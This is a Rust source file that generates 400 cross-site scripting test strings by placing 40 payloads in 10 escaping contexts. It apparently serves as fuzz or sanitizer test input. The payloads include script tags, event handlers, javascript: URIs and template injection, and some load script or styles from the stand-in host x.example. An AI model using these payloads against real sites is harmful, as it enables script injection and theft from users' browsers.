//! 400 texts that are markup, script or a way out of a place where they are not escaped.

/// What would run something, in its barest form.
const SHAPES: [&str; 40] = [
    "<script>alert(1)</script>",
    "<script src=//x.example/a.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<style>*{background:url(//x.example/a)}</style>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
    "<x onpointerenter=alert(1)>x</x>",
    "<p hx-get=/ui/keys hx-trigger=load hx-on:load=alert(1)>x</p>",
    "<p hx-nonce hx-sse:connect=//x.example/a>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open data-auto><script>alert(1)</script></dialog>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\u{2028}alert(1)\u{2029}",
    "<SCRIPT/x>alert(1)</SCRIPT >",
];

/// What closes the place that a text may stand in, and what opens it again.
const PLACES: [(&str, &str); 10] = [
    ("", ""),
    ("\">", "<\""),
    ("'>", "<'"),
    ("\" autofocus onfocus=alert(1) x=\"", ""),
    ("' autofocus onfocus=alert(1) x='", ""),
    ("</title>", "<title>"),
    ("</textarea></select></button>", ""),
    ("</script>", "<script>"),
    ("-->", "<!--"),
    ("&lt;b&gt;&quot;&#34;", "&amp;"),
];

/// Every shape in every place.
pub fn all() -> Vec<String> {
    let of_shape = |shape: &'static str| {
        let in_place = move |(before, after): &(&str, &str)| format!("{before}{shape}{after}");
        PLACES.iter().map(in_place)
    };
    SHAPES.into_iter().flat_map(of_shape).collect()
}

#[test]
fn there_are_four_hundred_of_them() {
    let all = all();
    let different: std::collections::BTreeSet<&String> = all.iter().collect();
    assert!(
        all.len() == 400 && different.len() == 400,
        "{}",
        different.len()
    );
}
